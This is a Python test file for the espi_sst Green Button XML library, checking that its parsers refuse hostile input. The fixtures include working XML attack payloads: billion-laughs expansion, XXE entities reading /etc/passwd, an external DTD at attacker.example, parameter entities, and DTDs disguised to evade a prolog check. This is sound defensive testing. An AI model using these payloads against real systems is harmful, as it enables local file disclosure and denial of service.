"""Hostile input is refused before it can hurt: no DTD, no entities, no network, bounded size.

Green Button files come from outside (a customer's upload, a utility's API), so the reader
must be safe against the classic XML attacks: entity expansion (billion laughs), external
entities that read local files (XXE on ``/etc/passwd``), external DTDs that fetch from the
network, and inputs too large to hold.  Every entry point that reads XML -- ``parse``,
``iter_interval_readings``, ``iter_interval_blocks`` and ``validate`` -- must refuse them
with :class:`espi_sst.UnsafeXmlError` and a stable code.  No timing assertions: each case
asserts the refusal code and that the secret file's content never appears.
"""

from __future__ import annotations

import ast
import gc
import io
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import espi_sst
from espi_sst import ParseError, ReadLimits, UnsafeXmlError

ATOM = "http://www.w3.org/2005/Atom"
ESPI = "http://naesb.org/espi"
PASSWD = Path("/etc/passwd")


def passwd_markers() -> list[str]:
    """Strings that would betray that /etc/passwd was read (its first account line)."""
    try:
        first = PASSWD.read_text().splitlines()[0]
    except (OSError, IndexError):
        return ["root:x:0:0"]
    return [first, first.split(":")[0] + ":x:"] if ":" in first else [first]


ENTRY_WITH_BLOCK = (
    f'<entry><id>urn:x</id><link rel="self" href="/UsagePoint/1/MeterReading/1/IntervalBlock/1"/>'
    f'<link rel="up" href="/UsagePoint/1/MeterReading/1/IntervalBlock"/><title>&xxe;</title>'
    f'<content><IntervalBlock xmlns="{ESPI}"><IntervalReading><timePeriod><duration>3600</duration>'
    f"<start>0</start></timePeriod><value>1</value></IntervalReading></IntervalBlock></content></entry>"
)

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE feed [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
  <!ENTITY xxe "&lol9;">
]>
<feed xmlns="{ATOM}"><title>&lol9;</title>{ENTRY_WITH_BLOCK}</feed>
""".encode()

EXTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<feed xmlns="{ATOM}"><title>&xxe;</title>{ENTRY_WITH_BLOCK}</feed>
""".encode()

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE feed SYSTEM "http://attacker.example/evil.dtd">
<feed xmlns="{ATOM}">{ENTRY_WITH_BLOCK.replace("&xxe;", "x")}</feed>
""".encode()

PARAMETER_ENTITIES = f"""<?xml version="1.0"?>
<!DOCTYPE feed [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % wrapper "<!ENTITY xxe '%file;'>">
  %wrapper;
]>
<feed xmlns="{ATOM}"><title>&xxe;</title>{ENTRY_WITH_BLOCK}</feed>
""".encode()

AFTER_COMMENT_AND_PI = f"""<?xml version="1.0"?>
<!-- exported by a friendly utility -->
<?xml-stylesheet type="text/xsl" href="ESPIRender.xsl"?>
<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<feed xmlns="{ATOM}"><title>&xxe;</title>{ENTRY_WITH_BLOCK}</feed>
"""

UTF16_WITH_DOCTYPE = AFTER_COMMENT_AND_PI.replace(
    '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>'
).encode("utf-16")

LOWERCASE_DOCTYPE = f"""<!doctype feed [<!entity xxe SYSTEM "file:///etc/passwd">]>
<feed xmlns="{ATOM}"/>""".encode()

UTF8_BOM = b"\xef\xbb\xbf" + EXTERNAL_ENTITY

ATTACKS = {
    "billion-laughs": (BILLION_LAUGHS, 2),
    "external-entity": (EXTERNAL_ENTITY, 2),
    "external-dtd": (EXTERNAL_DTD, 2),
    "parameter-entities": (PARAMETER_ENTITIES, 2),
    "doctype-after-comment-and-pi": (AFTER_COMMENT_AND_PI.encode(), 4),
    "utf16-with-doctype": (UTF16_WITH_DOCTYPE, 4),
    "utf8-bom": (UTF8_BOM, 2),
    "lowercase-doctype": (LOWERCASE_DOCTYPE, 1),
}


def read_all(stream: Any) -> list[Any]:
    return list(stream)


ENTRY_POINTS: dict[str, Callable[..., Any]] = {
    "parse": lambda source, **kw: espi_sst.parse(source, **kw),
    "iter_interval_readings": lambda source, **kw: read_all(
        espi_sst.iter_interval_readings(source, **kw)
    ),
    "iter_interval_blocks": lambda source, **kw: read_all(
        espi_sst.iter_interval_blocks(source, **kw)
    ),
    "validate": lambda source, **kw: espi_sst.validate(source, **kw),
}


def assert_no_secret(text: str) -> None:
    for marker in passwd_markers():
        assert marker not in text


@pytest.mark.parametrize("entry_point", ENTRY_POINTS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_dtd_attacks_are_refused_before_parsing(attack: str, entry_point: str) -> None:
    """Each classic XML attack is refused (code dtd_forbidden, with the DTD's line)."""
    xml, line = ATTACKS[attack]
    with pytest.raises(UnsafeXmlError) as caught:
        ENTRY_POINTS[entry_point](xml)
    error = caught.value
    assert error.code == "dtd_forbidden"
    assert error.line == line
    assert "DTD" in str(error)
    assert_no_secret(str(error))
    assert_no_secret(repr(error.__context__))


def refuse(call: Callable[[], Any]) -> tuple[str, list[warnings.WarningMessage]]:
    """Run a call that must be refused; return the error code and any ResourceWarning.

    The refusal is caught and released inside the warnings context, so a file handle the
    library leaked is reported here (and deterministically) rather than in a later test.
    """
    code = ""
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        try:
            call()
        except UnsafeXmlError as error:
            code = error.code
        gc.collect()
    return code, [w for w in seen if issubclass(w.category, ResourceWarning)]


@pytest.mark.parametrize("entry_point", ENTRY_POINTS)
def test_dtd_attack_refused_from_a_file_and_a_stream(tmp_path: Path, entry_point: str) -> None:
    path = tmp_path / "evil.xml"
    path.write_bytes(EXTERNAL_ENTITY)
    for source in (path, str(path), io.BytesIO(EXTERNAL_ENTITY)):
        code, _ = refuse(lambda source=source: ENTRY_POINTS[entry_point](source))
        assert code == "dtd_forbidden"


@pytest.mark.parametrize("entry_point", ENTRY_POINTS)
def test_refusing_a_path_closes_the_file(tmp_path: Path, entry_point: str) -> None:
    """A refused upload must not leak a file descriptor (servers read many uploads)."""
    path = tmp_path / "evil.xml"
    path.write_bytes(EXTERNAL_ENTITY)
    code, leaks = refuse(lambda: ENTRY_POINTS[entry_point](path))
    assert code == "dtd_forbidden"
    assert leaks == []


def test_refusing_an_oversized_path_closes_the_file(tmp_path: Path) -> None:
    path = tmp_path / "big.xml"
    path.write_bytes(b"<feed/>" + b" " * 1000)
    code, leaks = refuse(lambda: espi_sst.parse(path, limits=ReadLimits(max_bytes=10)))
    assert code == "input_too_large"
    assert leaks == []


BAD_VALUE = (
    f'<feed xmlns="{ATOM}"><entry><content><IntervalBlock xmlns="{ESPI}"><IntervalReading>'
    "<value>abc</value></IntervalReading></IntervalBlock></content></entry></feed>"
).encode()
TRUNCATED = (
    f'<feed xmlns="{ATOM}"><entry><content><IntervalBlock xmlns="{ESPI}"><IntervalReading>'
    "<value>1</value></IntervalReading></IntervalBlock></content></entry><entry>"
).encode()


def mid_read_cases() -> Iterator[Any]:
    for kind, data, code in (
        ("bad-value", BAD_VALUE, "invalid_value"),
        ("truncated", TRUNCATED, "malformed_xml"),
    ):
        for entry_point in ENTRY_POINTS:
            # validate() reports a bad value as a ValidationIssue; it raises only for bad XML.
            expected = "" if (entry_point, kind) == ("validate", "bad-value") else code
            yield pytest.param(
                data,
                expected,
                entry_point,
                id=f"{kind}-{entry_point}",
            )


@pytest.mark.parametrize(("data", "code", "entry_point"), list(mid_read_cases()))
def test_a_parse_error_while_reading_a_path_closes_the_file(
    tmp_path: Path, data: bytes, code: str, entry_point: str
) -> None:
    """Servers read many uploads: a damaged one must not leave a file descriptor behind."""
    path = tmp_path / "damaged.xml"
    path.write_bytes(data)
    found = ""
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        try:
            ENTRY_POINTS[entry_point](path)
        except ParseError as error:
            found = error.code
        gc.collect()
    assert found == code
    assert [w for w in seen if issubclass(w.category, ResourceWarning)] == []


def test_unsafe_xml_error_is_a_parse_error_and_a_value_error() -> None:
    """Callers that catch ParseError or ValueError also catch refusals."""
    with pytest.raises(ParseError):
        espi_sst.parse(EXTERNAL_ENTITY)
    with pytest.raises(ValueError):
        espi_sst.parse(EXTERNAL_ENTITY)


def test_doctype_text_inside_a_document_is_harmless_data() -> None:
    """``<!DOCTYPE`` inside element text (escaped) is data, not a declaration."""
    xml = f'<feed xmlns="{ATOM}"><title>about &lt;!DOCTYPE html&gt; pages</title></feed>'.encode()
    doc = espi_sst.parse(xml)
    assert doc.feed is not None and doc.feed.title == "about <!DOCTYPE html> pages"


# ---- DTDs the prolog check cannot see: the second wall --------------------------------------
# The first wall scans the first 64 KiB before the first element for <!DOCTYPE / <!ENTITY.
# A DTD can hide from it (UTF-16 without a byte-order mark, a 64 KiB comment first, or
# "<a" inside a comment that looks like an element).  lxml then sees the DTD and every
# entry point must still refuse it.

HIDDEN_DOCTYPE = '<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def hidden(kind: str, body: str) -> bytes:
    if kind == "utf16-no-bom":
        return f'<?xml version="1.0" encoding="UTF-16"?>\n{HIDDEN_DOCTYPE}\n{body}'.encode(
            "utf-16-le"
        )
    if kind == "after-64k-comment":
        return f'<?xml version="1.0"?>\n<!--{"x" * 70_000}-->\n{HIDDEN_DOCTYPE}\n{body}'.encode()
    if kind == "element-like-comment":
        return f'<?xml version="1.0"?>\n<!-- <a -->\n{HIDDEN_DOCTYPE}\n{body}'.encode()
    raise AssertionError(kind)


HIDDEN_KINDS = ["utf16-no-bom", "after-64k-comment", "element-like-comment"]
WITH_ENTRY = f'<feed xmlns="{ATOM}"><title>&xxe;</title>{ENTRY_WITH_BLOCK}</feed>'
WITHOUT_ENTRY = f'<feed xmlns="{ATOM}"><title>&xxe;</title></feed>'


def hidden_cases() -> Iterator[Any]:
    for kind in HIDDEN_KINDS:
        for shape, body in (("with-entry", WITH_ENTRY), ("without-entry", WITHOUT_ENTRY)):
            for entry_point in ENTRY_POINTS:
                yield pytest.param(kind, body, entry_point, id=f"{kind}-{shape}-{entry_point}")


@pytest.mark.parametrize(("kind", "body", "entry_point"), list(hidden_cases()))
def test_dtd_hidden_from_the_prolog_check_is_still_refused(
    kind: str, body: str, entry_point: str
) -> None:
    xml = hidden(kind, body)
    with pytest.raises(UnsafeXmlError) as caught:
        ENTRY_POINTS[entry_point](xml)
    assert caught.value.code == "dtd_forbidden"
    assert_no_secret(str(caught.value))


@pytest.mark.parametrize("kind", HIDDEN_KINDS)
def test_validate_refuses_a_hidden_dtd_at_least_as_a_parse_error(kind: str) -> None:
    """Today's behaviour: validate refuses it, as a ParseError with the dtd_forbidden code."""
    with pytest.raises(ParseError) as caught:
        espi_sst.validate(hidden(kind, WITHOUT_ENTRY))
    assert caught.value.code == "dtd_forbidden"


@pytest.mark.parametrize("kind", HIDDEN_KINDS)
def test_hidden_entity_is_never_expanded_by_streaming(kind: str) -> None:
    """Even where streaming misses the DTD, entities are not resolved: nothing leaks."""
    stream = espi_sst.iter_interval_readings(hidden(kind, WITHOUT_ENTRY))
    try:
        readings = list(stream)
    except UnsafeXmlError:
        return
    assert readings == []
    assert_no_secret(repr(stream.warnings))


# ---- size ----------------------------------------------------------------------------------
class EndlessFeed(io.RawIOBase):
    """A binary stream producing a never-ending feed of IntervalBlock entries, lazily."""

    def __init__(self) -> None:
        self.produced = 0
        self._buffer = f'<?xml version="1.0"?>\n<feed xmlns="{ATOM}">'.encode()
        self._index = 0

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        size = 65536 if size is None or size < 0 else size
        while len(self._buffer) < size:
            self._buffer += ENTRY_WITH_BLOCK.replace("&xxe;", str(self._index)).encode()
            self._index += 1
        data, self._buffer = self._buffer[:size], self._buffer[size:]
        self.produced += len(data)
        return data


@pytest.mark.parametrize("entry_point", ENTRY_POINTS)
def test_oversized_stream_is_refused(entry_point: str) -> None:
    """A stream is counted as it is read and refused once it passes max_bytes."""
    source = EndlessFeed()
    limit = 300_000
    with pytest.raises(UnsafeXmlError) as caught:
        ENTRY_POINTS[entry_point](source, limits=ReadLimits(max_bytes=limit))
    assert caught.value.code == "input_too_large"
    assert "300,000" in str(caught.value)
    # It stopped reading soon after the limit (one read past it at most).
    assert limit < source.produced <= limit + (1 << 20) + 65536


@pytest.mark.parametrize("entry_point", ENTRY_POINTS)
def test_oversized_path_is_refused_before_reading(tmp_path: Path, entry_point: str) -> None:
    """A file over the limit is refused from its size alone.

    Its content is a DTD: had a byte been read, the error would be dtd_forbidden.
    """
    path = tmp_path / "huge.xml"
    path.write_bytes(EXTERNAL_ENTITY + b" " * 10_000)
    for source in (path, str(path)):
        with pytest.raises(UnsafeXmlError) as caught:
            ENTRY_POINTS[entry_point](source, limits=ReadLimits(max_bytes=5_000))
        assert caught.value.code == "input_too_large"
        assert str(path) in str(caught.value)


@pytest.mark.parametrize("entry_point", ["parse", "validate"])
def test_default_limit_refuses_a_file_over_one_gibibyte(tmp_path: Path, entry_point: str) -> None:
    """parse() and validate() refuse > 1 GiB by default (a sparse file: no disk used)."""
    path = tmp_path / "sparse.xml"
    with path.open("wb") as handle:
        handle.truncate((1 << 30) + 1)
    assert ReadLimits().max_bytes == 1 << 30
    with pytest.raises(UnsafeXmlError) as caught:
        ENTRY_POINTS[entry_point](path)
    assert caught.value.code == "input_too_large"


def test_streaming_has_no_size_limit_by_default() -> None:
    """Streaming exists for files of any size: without limits it reads past 1 MiB happily."""
    big = (
        f'<feed xmlns="{ATOM}">'.encode()
        + b"".join(ENTRY_WITH_BLOCK.replace("&xxe;", str(i)).encode() for i in range(5000))
        + b"</feed>"
    )
    assert len(big) > 1 << 20
    assert len(list(espi_sst.iter_interval_readings(big))) == 5000
    with pytest.raises(UnsafeXmlError):
        list(espi_sst.iter_interval_readings(big, limits=ReadLimits(max_bytes=1 << 20)))


@pytest.mark.parametrize("entry_point", ENTRY_POINTS)
def test_input_exactly_at_the_limit_is_accepted(entry_point: str) -> None:
    xml = f'<feed xmlns="{ATOM}">{ENTRY_WITH_BLOCK.replace("&xxe;", "t")}</feed>'.encode()
    for source_kind in ("bytes", "stream"):
        at_limit = xml if source_kind == "bytes" else io.BytesIO(xml)
        ENTRY_POINTS[entry_point](at_limit, limits=ReadLimits(max_bytes=len(xml)))
        over = xml if source_kind == "bytes" else io.BytesIO(xml)
        with pytest.raises(UnsafeXmlError):
            ENTRY_POINTS[entry_point](over, limits=ReadLimits(max_bytes=len(xml) - 1))


# ---- libxml2's own limits --------------------------------------------------------------------
DEEP = f'<feed xmlns="{ATOM}">' + "<a>" * 5000 + "</a>" * 5000 + "</feed>"
DEEP_IN_BLOCK = (
    f'<feed xmlns="{ATOM}"><entry><content><IntervalBlock xmlns="{ESPI}">'
    + "<a>" * 5000
    + "</a>" * 5000
    + "</IntervalBlock></content></entry></feed>"
)
HUGE_TEXT = f'<feed xmlns="{ATOM}"><title>' + "x" * 11_000_000 + "</title></feed>"
HUGE_VALUE = (
    f'<feed xmlns="{ATOM}"><entry><content><IntervalBlock xmlns="{ESPI}"><IntervalReading><value>'
    + "1" * 11_000_000
    + "</value></IntervalReading></IntervalBlock></content></entry></feed>"
)


@pytest.mark.parametrize("entry_point", ENTRY_POINTS)
@pytest.mark.parametrize(
    ("xml", "reason"),
    [(DEEP, "depth"), (DEEP_IN_BLOCK, "depth"), (HUGE_TEXT, "too long"), (HUGE_VALUE, "too long")],
    ids=["deep", "deep-in-block", "huge-text", "huge-value"],
)
def test_beyond_libxml2_limits_is_a_parse_error_not_a_crash(
    xml: str, reason: str, entry_point: str
) -> None:
    """huge_tree stays off: absurd nesting or a 10 MB text node is a clean ParseError."""
    with pytest.raises(ParseError) as caught:
        ENTRY_POINTS[entry_point](xml.encode())
    assert caught.value.code == "malformed_xml"
    assert reason in str(caught.value).lower()
    assert caught.value.line == 1


def test_no_network_access_is_attempted_for_schema_locations() -> None:
    """xsi:schemaLocation pointing at the network is ignored (validation is offline)."""
    xml = (
        f'<feed xmlns="{ATOM}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="{ATOM} http://attacker.example/atom.xsd"/>'
    ).encode()
    assert espi_sst.validate(xml) == []
    assert espi_sst.parse(xml).entries == []


def test_environment_is_not_consulted(monkeypatch: pytest.MonkeyPatch) -> None:
    """Library defaults are explicit objects, not environment variables."""
    monkeypatch.setenv("ESPI_MAX_BYTES", "10")
    xml = f'<feed xmlns="{ATOM}"/>'.encode()
    assert espi_sst.parse(xml).entries == []


# ---- one place builds lxml parsers -------------------------------------------------------
PACKAGE = Path(espi_sst.__file__).parent
PARSER_FACTORIES = {"XMLParser", "iterparse", "XMLPullParser", "HTMLParser"}
PARSING_CALLS = {"fromstring", "XML", "parse"}


def etree_calls(path: Path) -> Iterator[tuple[str, ast.Call]]:
    """``etree.<name>(...)`` calls in a source file, by name."""
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and isinstance(node.func.value, ast.Name)
            and node.func.value.id == "etree"
        ):
            yield node.func.attr, node


def test_only_the_safety_module_builds_lxml_parsers() -> None:
    """Five parser set-ups were written out by hand (issue 19); now xml/_safety.py builds
    every one, so no reader can forget a setting; every parsing call is given one."""
    builders = set()
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE).as_posix()
        for name, call in etree_calls(path):
            if name in PARSER_FACTORIES:
                builders.add(relative)
            if name in PARSING_CALLS:
                given = len(call.args) >= 2 or any(k.arg == "parser" for k in call.keywords)
                assert given, f"{relative}:{call.lineno}: etree.{name} without a safe parser"
    assert builders == {"xml/_safety.py"}


FRAGMENT_XXE = (
    f'<!DOCTYPE x [<!ENTITY secret SYSTEM "file://{PASSWD}">]><x xmlns="urn:example">&secret;</x>'
)


def test_extension_fragments_never_expand_entities() -> None:
    from espi_sst.xml._decode import make_extension

    try:
        extension = make_extension(FRAGMENT_XXE)
    except espi_sst.EspiError:
        return  # refused outright is fine too
    text = str(extension.elements)
    assert not any(marker in text for marker in passwd_markers())


def test_batch_list_refuses_a_dtd() -> None:
    from espi_sst.xml.batch_list import read_batch_list

    body = (
        f'<!DOCTYPE x [<!ENTITY secret SYSTEM "file://{PASSWD}">]>'
        f'<BatchList xmlns="{ESPI}"><resources>&secret;</resources></BatchList>'
    ).encode()
    with pytest.raises(UnsafeXmlError) as refused:
        read_batch_list(body)
    assert refused.value.code == "dtd_forbidden"
